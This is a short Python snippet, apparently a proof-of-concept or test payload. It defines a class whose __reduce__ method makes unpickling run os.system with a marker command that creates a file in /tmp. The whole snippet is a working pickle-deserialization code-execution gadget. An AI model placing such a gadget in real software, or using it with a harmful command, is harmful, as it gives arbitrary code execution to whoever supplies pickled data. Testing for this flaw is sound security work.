class Payload:
    def __reduce__(self):
        return (__import__('os').system, ('touch /tmp/pwned_$$',))
def f(x): return Payload()
